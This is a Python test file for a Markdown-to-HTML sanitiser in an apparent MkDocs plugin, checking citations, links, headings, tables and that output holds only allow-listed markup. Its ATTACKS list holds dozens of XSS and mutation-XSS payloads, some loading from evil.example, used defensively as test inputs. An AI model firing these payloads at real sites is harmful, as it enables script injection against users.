"""Markdown of authors becomes clean HTML."""

from __future__ import annotations

import re
from collections.abc import Iterable
from itertools import pairwise

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mkdocs_programme.prose import Heading, Prose, Work, Works
from mkdocs_programme.prose.cleaning import ATTRIBUTES, CLASSES, TAGS
from mkdocs_programme.prose.shaping import TABLE

PROSE = Prose()


def work(key: str, number: int, title: str) -> Work:
    return Work(f"#ref-{key}", title, lambda where, quiet: f"{number}, {where}" if where else str(number))


WORKS = Works({"stabell1998": work("stabell1998", 1, "Configuring value"), "ghate": work("ghate", 2, "What is “co”?")})


def leads(target: str) -> str | None:
    return f"/to/{target}" if "lost" not in target else None


def html(markdown: str, level: int = 2, taken: set[str] | None = None) -> str:
    return PROSE.html(markdown, leads, WORKS, level=level, taken=taken)[0]


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        (
            "[@stabell1998, p. 415]",
            '<p><span>[<a class="prg-cite" href="#ref-stabell1998" title="Configuring value">1, p. 415</a>]</span></p>',
        ),
        (
            "[see -@ghate; @stabell1998]",
            '<p><span>[see <a class="prg-cite" href="#ref-ghate" title="What is “co”?">2</a>; '
            '<a class="prg-cite" href="#ref-stabell1998" title="Configuring value">1</a>]</span></p>',
        ),
        (
            "[@ghate; and others; @nobody, p. 2]",
            '<p><span>[<a class="prg-cite" href="#ref-ghate" title="What is “co”?">2</a>; '
            "and others; @nobody, p. 2]</span></p>",
        ),
        ("[@nobody]", "<p>[@nobody]</p>"),
        ("Write `[@ghate]`", "<p>Write <code>[@ghate]</code></p>"),
        ("Write \\[@ghate]", "<p>Write [@ghate]</p>"),
        ("[ada@example.org]", "<p>[ada@example.org]</p>"),
    ],
)
def test_a_citation_becomes_a_number_that_leads_to_the_list(markdown: str, expected: str) -> None:
    assert html(markdown) == expected


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("[Ada](../speakers/ada.md#talks)", '<p><a href="/to/../speakers/ada.md#talks">Ada</a></p>'),
        ("[Ada][1]\n\n[1]: ada.md", '<p><a href="/to/ada.md">Ada</a></p>'),
        ("<a href='ada.md'>Ada</a>", '<p><a href="/to/ada.md">Ada</a></p>'),
        ("[Ada *Berg*](lost.md)", "<p>Ada <em>Berg</em></p>"),
        ("[Above](#above)", '<p><a href="#above">Above</a></p>'),
        ("[Mail](mailto:ada@example.org)", '<p><a href="mailto:ada@example.org">Mail</a></p>'),
        (
            "[Out](https://example.org/a.md)",
            '<p><a href="https://example.org/a.md" rel="external noopener" data-web="example.org/a.md">Out</a></p>',
        ),
        (
            "[Out](//example.org/)",
            '<p><a href="//example.org/" rel="external noopener" data-web="example.org">Out</a></p>',
        ),
        (
            "[www.example.org/a](https://example.org/a/)",
            '<p><a href="https://example.org/a/" rel="external noopener">www.example.org/a</a></p>',
        ),
        ("![A tree](tree.png)", '<p><img alt="A tree" src="/to/tree.png"></p>'),
        ("![A tree](https://example.org/tree.png)", "<p>A tree</p>"),
        ("![A tree](//example.org/tree.png)", "<p>A tree</p>"),
        ("![A tree](\\\\\\\\example.org/tree.png)", "<p>A tree</p>"),
    ],
)
def test_a_relative_address_is_led_and_no_picture_comes_from_elsewhere(markdown: str, expected: str) -> None:
    assert html(markdown) == expected


def test_headings_begin_where_the_page_is_and_skip_no_level() -> None:
    made, headings = PROSE.html("# One\n\n#### Two\n\n### Three\n\n# Å *fyra*\n", leads, Works(), level=3)

    assert made == (
        '<h3 id="one">One</h3>\n<h4 id="two">Two</h4>\n<h4 id="three">Three</h4>\n<h3 id="å-fyra">Å <em>fyra</em></h3>'
    )
    assert headings == (
        Heading("one", "One", 3),
        Heading("two", "Two", 4),
        Heading("three", "Three", 4),
        Heading("å-fyra", "Å fyra", 3),
    )


def test_a_heading_written_as_html_keeps_to_the_same_rules() -> None:
    assert html('<h1 id="people" class="x" lang="sv">Folk</h1>\n\n<h4>Mer</h4>') == (
        '<h2 lang="sv" id="folk">Folk</h2>\n\n<h3 id="mer">Mer</h3>'
    )


def test_ids_of_headings_are_those_the_page_has_not_taken() -> None:
    taken = {"people"}

    assert html("## People\n\n## People\n\n## ?", taken=taken) == (
        '<h2 id="people-2">People</h2>\n<h2 id="people-3">People</h2>\n<h2 id="section">?</h2>'
    )
    assert html("## People", taken=taken) == '<h2 id="people-4">People</h2>'


def test_tables_scroll_by_themselves_and_each_has_a_name() -> None:
    region = '<div class="prg-scroll" role="region" tabindex="0" aria-label="{}"><table class="prg-table">'

    made = html("| a | b | c |\n|--|:-:|--:|\n| 1 | 2 | 3 |\n\n<table><tr><td>raw</td></tr></table>")

    assert re.sub(r"\n", "", made) == (
        region.format("Table") + "<thead><tr>"
        '<th>a</th><th class="prg-center">b</th><th class="prg-end">c</th></tr></thead><tbody><tr>'
        '<td>1</td><td class="prg-center">2</td><td class="prg-end">3</td></tr></tbody></table></div>'
        + region.format("Table 2")
        + "<tbody><tr><td>raw</td></tr></tbody></table></div>"
    )


def test_a_corner_of_a_table_without_words_heads_nothing() -> None:
    made = html("| | b |\n|--|--|\n| 1 | 2 |")

    assert re.findall("<t[hd]>.*?</t[hd]>", made) == ["<td></td>", "<th>b</th>", "<td>1</td>", "<td>2</td>"]


def test_a_text_too_deep_to_read_is_shown_as_it_is_and_spoils_no_other() -> None:
    prose = Prose()
    deep = "- a\n" + "".join(f"{'    ' * depth}- a\n" for depth in range(1, 900))

    assert prose.html(deep, leads, Works())[0].startswith("<p>- a\n    - a\n")
    assert prose.html("- a\n- b", leads, Works())[0] == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](x.md "onmouseover=alert(1)")',
    '[x](x.md" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=a><button>b</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<video src='https://evil.example/x' autoplay></video>",
    "<img srcset='https://evil.example/x 2x' src='a.png'>",
    "<body background='https://evil.example/x'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<h2 id='x' onclick='alert(1)'>x</h2>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '# <img src=x onerror=alert(1)> " onclick="alert(1)',
    '| <script>alert(1)</script> | a" onclick="x |\n|--|--|\n| <b onclick=alert(1)>b</b> | c |',
    "[@stabell1998, <script>alert(1)</script>]",
    '[@stabell1998, "onclick=alert(1) p]',
    "[see <img src=x onerror=alert(1)> @ghate]",
    "\x02klzzwxh:0\x03<script>",
    "<a href='https://u:p@evil.example'>x</a>",
    "<img src='http:a.png'>",
    "<img src='/\\evil.example/x'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_a_stranger_types_runs(attack: str) -> None:
    assert_harmless(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_in_the_middle_of_other_text(attack: str) -> None:
    assert_harmless(f'Before *{attack}* and [{attack}]({attack})\n\n> - {attack}\n\n<b title="{attack}">{attack}')


PIECES = st.one_of(
    st.sampled_from(
        [*ATTACKS, "\n\n", "\n", "# ", "#### ", "- ", "> ", "    ", "|", "|--|--|\n", "```", "`", "[", "]"]
    ),
    st.sampled_from(["](", ")", "*", "_", "[@ghate]", "[a](b.md)", "<h1>", "</h1>", "<a>", "</a>", "<table>", "<td>"]),
    st.sampled_from(
        ["</table>", "<div>", "<p>", '"', "'", "&", "&lt;", "<", ">", "\x00", "\x02", "\x03", "http://[::1"]
    ),
    st.text(max_size=12),
)
TEXTS = st.one_of(st.text(), st.lists(PIECES, max_size=14).map("".join))


@given(TEXTS, st.integers(2, 6))
def test_any_text_at_all_becomes_harmless_html_with_an_unbroken_outline(text: str, level: int) -> None:
    assert_harmless(text, level)


def assert_harmless(markdown: str, level: int = 2) -> None:
    """The page of a browser has only what the allow-list has, and headings as they were told."""
    made, headings = PROSE.html(markdown, leads, WORKS, level=level)
    tree = html5lib.parse(f"<main>{made}</main>", namespaceHTMLElements=False)
    found, ids, regions = [], [], []
    for element in tree.find("body/main").iter():
        if element.tag == "main":
            continue
        if element.tag == "div":
            assert element.attrib.keys() == {"class", "role", "tabindex", "aria-label"}
            regions.append(element.get("aria-label"))
            continue
        assert element.tag in TAGS
        assert_attributes(element.tag, element.attrib)
        if re.fullmatch("h[1-6]", element.tag):
            found.append((element.get("id"), int(element.tag[1])))
            ids.append(element.get("id"))
    assert len(set(ids)) == len(ids)
    assert len(set(regions)) == len(regions)
    assert found == [(heading.id, heading.level) for heading in headings]
    assert all(there <= min(6, before + 1) for before, there in steps(level, found))


def steps(level: int, found: list[tuple[str | None, int]]) -> Iterable[tuple[int, int]]:
    """The level of every heading, and of the one before it."""
    levels = [level - 1, *(there for _, there in found)]
    return pairwise(levels)


def assert_attributes(tag: str, attributes: dict[str, str]) -> None:
    added = {"a": {"rel", "data-web"}, "table": {"class"}}.get(tag, {"id"} if re.fullmatch("h[2-6]", tag) else set())
    assert set(attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | added
    assert attributes.get("class", "prg-cite") in {*CLASSES, TABLE}
    assert re.match(r"https?:|mailto:|/|#|\\", attributes.get("href", "#"), re.IGNORECASE)
    assert re.match(r"/to/", attributes.get("src", "/to/"))
    assert attributes.get("rel", "external noopener") == "external noopener"


def test_brackets_that_are_never_closed_stay_letters_and_cost_no_time() -> None:
    text = "[x](http://[::1)" * 5_000

    html, headings = Prose().html(text, lambda way: way, Works())

    assert (html.count("[x](http://[::1)"), headings) == (5_000, ())


SHOWN = st.lists(
    st.sampled_from(
        [
            "Care",
            "\n\n",
            "*so*",
            "# One",
            "[a](b.md)",
            "[a](#b)",
            "[@ghate]",
            "|a|b|\n|-|-|\n",
            "<h3>x</h3>",
            "![a](b.png)",
        ]
    ),
    max_size=5,
).map(" ".join)


@given(SHOWN, st.integers(2, 4))
def test_a_text_that_another_page_has_shown_reads_as_if_none_had(text: str, level: int) -> None:
    shown = Prose()
    shown.html(text, lambda target: None, Works(), table_label="Tabell")

    assert shown.html(text, leads, WORKS, level=level, taken={"one"}) == Prose().html(
        text, leads, WORKS, level=level, taken={"one"}
    )
